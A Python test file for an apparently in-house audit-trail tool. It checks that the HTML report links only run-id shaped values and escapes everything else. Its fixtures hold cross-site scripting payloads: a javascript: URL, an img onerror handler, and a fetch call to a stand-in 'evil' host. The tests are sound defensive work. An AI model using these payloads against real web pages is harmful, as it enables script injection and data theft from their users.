"""Issue 18, from attack 5: the HTML report linked `resumes_run_id` (and the runs that resumed
a run) by pasting the recorded value into href, so a value such as "javascript:..." became a
live link. A run id comes from the trail: a signed trail can still carry any text there (a
host that wrote it, a bug, an import), so the page links only run-id shaped values, to
run pages it builds itself, and shows anything else as escaped text."""
from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

from amdflash.pipeline.cli.main import main
from amdflash.store import schema
from amdflash.store.writer.sealer import ChainWriter, Signer

HOSTILE = 'javascript:alert(document.domain)//"><b>x</b>'
HOSTILE_CHILD = "javascript:fetch('//evil')//<img src=x onerror=alert(1)>"   # listed under "resumed by"
GOOD = "20260101T000000-0123abcd"


class Links(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.hrefs: list[str] = []
        self.tags: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.hrefs += [v or "" for k, v in attrs if k == "href"]


def _trail(db: Path, key: Path) -> None:
    """Three runs written and sealed by the ordinary writer, as a host would: GOOD claims to
    resume HOSTILE, and HOSTILE_CHILD resumes GOOD."""
    conn = schema.connect(str(db))
    conn.execute("BEGIN")
    schema.create(conn)
    conn.execute("COMMIT")
    w = ChainWriter(conn, Signer.load(key), None)
    at = "2026-01-01T00:00:00+00:00"
    for run_id, resumes in ((GOOD, HOSTILE), (HOSTILE_CHILD, GOOD)):
        w.add(("runs", run_id, "resume", "{}", "root", None, "hosta", None, "0.1.0", None, None, None, None,
               "sim:/b", resumes, at))
        w.add(("run_status", run_id, "failed", "x", None, "{}", at))
        w.commit(True)
    w.close()


def test_only_run_ids_become_links_and_never_a_scheme_from_the_trail(tmp_path, capsys, host_key):  # noqa: ANN001
    db = tmp_path / "audit.sqlite"
    _trail(db, host_key)
    out = tmp_path / "report.html"
    assert main(["-q", "--db", str(db), "report", GOOD, "--format", "html", "-o", str(out)]) == 0
    text = out.read_text()
    links = Links(text)
    assert links.hrefs == [], links.hrefs          # neither the resumed nor the resuming run is a run id
    assert "javascript:" in text and "<b>x</b>" not in text     # shown, escaped, as text
    assert "img" not in links.tags and "&lt;img src=x onerror=alert(1)&gt;" in text   # the resuming run's too


def test_a_run_id_is_linked_to_its_page(tmp_path, capsys, host_key):  # noqa: ANN001
    db = tmp_path / "audit.sqlite"
    _trail(db, host_key)
    out = tmp_path / "report.html"
    # Linked only once its page is beside this one (issue 27: a link must lead somewhere).
    assert main(["-q", "--db", str(db), "report", HOSTILE_CHILD, "--format", "html", "-o", str(out)]) == 0
    assert Links(out.read_text()).hrefs == [] and GOOD in out.read_text()
    assert main(["-q", "--db", str(db), "report", GOOD, "--format", "html", "-o", str(tmp_path / f"{GOOD}.html")]) == 0
    assert main(["-q", "--db", str(db), "report", HOSTILE_CHILD, "--format", "html", "-o", str(out),
                 "--overwrite"]) == 0
    hrefs = Links(out.read_text()).hrefs
    assert hrefs == [f"{GOOD}.html"] and all(re.fullmatch(r"[0-9]{8}T[0-9]{6}-[0-9a-f]{8}\.html", h) for h in hrefs)


def test_a_run_id_that_is_not_text_is_shown_not_a_crash(tmp_path, capsys, host_key):  # noqa: ANN001
    """A row INSERTed with a BLOB run id resuming a run (no key needed) crashed its page
    (an attack review): it is a value like any other, shown escaped."""
    import sqlite3

    db = tmp_path / "audit.sqlite"
    _trail(db, host_key)
    con = sqlite3.connect(db)
    con.execute("INSERT INTO runs (run_id, command, resumes_run_id, at) VALUES (?, 'resume', ?, ?)",
                (b"<i>forged</i>", GOOD, "2026-01-01T00:00:01+00:00"))
    con.commit()
    con.close()
    out = tmp_path / "report.html"
    assert main(["-q", "--db", str(db), "report", GOOD, "--format", "html", "-o", str(out)]) == 0
    text = out.read_text()
    assert "<i>forged" not in text and "&lt;i&gt;forged" in text
